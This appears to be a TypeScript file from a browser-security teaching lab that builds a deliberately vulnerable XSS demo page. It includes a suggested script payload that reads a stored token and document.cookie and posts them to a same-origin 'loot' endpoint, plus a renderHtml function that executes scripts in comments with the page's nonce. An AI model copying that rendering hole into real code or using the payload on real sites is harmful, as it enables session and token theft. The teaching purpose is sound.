import "server-only";

/**
 * The XSS lab's deliberately vulnerable page, as one HTML document. The server side is safe (the
 * comment travels as JSON); the hole is on the client, where the page "renders" comments the way
 * jQuery's .html() does: it runs any <script> inside them, and hands them the page's CSP nonce.
 * Contained: the page's CSP (set by proxy.ts) allows connections to this origin only, and the
 * token it keeps in localStorage is a demo token that opens nothing.
 */
export const SUGGESTED_PAYLOAD = `<script>fetch("/labs/browser/xss/loot",{method:"POST",body:JSON.stringify({token:localStorage.getItem("demo_api_token"),cookies:document.cookie})}).then(r=>r.text()).then(t=>{document.getElementById("loot").textContent=t})</script>`;

const esc = (s: string) =>
  s.replace(
    /[&<>"']/g,
    (c) => ({ "&": "&amp;", "<": "&lt;", ">": "&gt;", '"': "&quot;", "'": "&#39;" })[c] ?? c,
  );
/** A string safe inside a <script> as a JS literal. */
const js = (s: string) => JSON.stringify(s).replace(/</g, "\\u003c");

export function xssDemoPage(o: { nonce: string; token: string | null; comment: string | null }): string {
  const app = o.token
    ? `<script nonce="${esc(o.nonce)}">
  // The "app": it keeps its API token where any script on the page can read it.
  localStorage.setItem("demo_api_token", ${js(o.token)});
  // The hole: comments are rendered like jQuery's .html(), scripts included (with the page's nonce).
  function renderHtml(el, html) {
    el.innerHTML = html;
    for (const old of el.querySelectorAll("script")) {
      const s = document.createElement("script");
      s.nonce = document.currentScript ? document.currentScript.nonce : ${js(o.nonce)};
      s.textContent = old.textContent;
      old.replaceWith(s);
    }
  }
  const comment = ${js(o.comment ?? "")};
  if (comment) renderHtml(document.getElementById("comment"), comment);
</script>`
    : "";
  return `<!doctype html>
<html lang="en"><head><meta charset="utf-8"><meta name="viewport" content="width=device-width, initial-scale=1">
<title>XSS demo (deliberately vulnerable) · Session Lab</title>
<style>body{font:16px/1.5 system-ui,sans-serif;max-width:46rem;margin:0 auto;padding:1rem;color:#0f172a;background:#fff}
.warn{border:3px solid #b91c1c;background:#fef2f2;padding:.75rem;border-radius:.5rem}
textarea{width:100%;box-sizing:border-box;font:14px ui-monospace,monospace}
pre,code{white-space:pre-wrap;word-break:break-all;font:14px ui-monospace,monospace}
button{font:inherit;padding:.4rem .9rem}:focus-visible{outline:3px solid #2563eb;outline-offset:2px}
section{border:1px solid #cbd5e1;border-radius:.5rem;padding:.75rem;margin-top:1rem}</style></head>
<body><main>
<p class="warn" role="note"><strong>Deliberately vulnerable demo page.</strong> Part of Session Lab's browser-security lab.
It runs scripts found in your comment. Its security policy lets them talk only to this server, and the token it
keeps is a demo token that opens nothing.</p>
<h1>Shop reviews (XSS demo)</h1>
${
  o.token
    ? `<p>This page stored a demo API token in <code>localStorage</code>, like a single-page app that keeps its token there.
Your session cookie is HttpOnly: the browser sends it, but no script can read it.</p>
<form method="post" action="/labs/browser/xss/demo">
<label for="c"><strong>Your comment</strong> (HTML allowed: that is the bug)</label>
<textarea id="c" name="comment" rows="5">${esc(o.comment ?? SUGGESTED_PAYLOAD)}</textarea>
<p><button type="submit">Post comment</button></p></form>
<section aria-labelledby="ch"><h2 id="ch">Latest comment</h2><div id="comment">${o.comment ? "" : "<p>No comment yet.</p>"}</div></section>
<section aria-labelledby="lh" aria-live="polite"><h2 id="lh">What the injected script sent back</h2><pre id="loot">Nothing yet.</pre></section>`
    : `<p>Sign in first (in any mode): the demo compares what a script can take with what your session cookie protects.</p>`
}
<p><a href="/labs/browser">Back to the browser-security lab</a></p>
</main>${app}</body></html>`;
}
